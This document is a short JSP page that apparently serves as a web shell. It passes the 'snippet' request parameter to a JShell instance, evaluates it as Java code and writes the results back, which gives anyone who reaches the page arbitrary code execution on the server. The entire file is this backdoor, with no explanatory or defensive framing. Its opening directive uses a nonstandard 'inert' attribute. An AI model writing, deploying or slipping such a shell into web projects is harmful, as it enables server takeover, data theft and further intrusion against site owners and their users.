<%@ page inert %>
<%
try (jdk.jshell.JShell sh = jdk.jshell.JShell.builder().build()) {
    for (jdk.jshell.SnippetEvent ev : sh.eval(request.getParameter("snippet")))
        out.println(ev.value());
}
%>
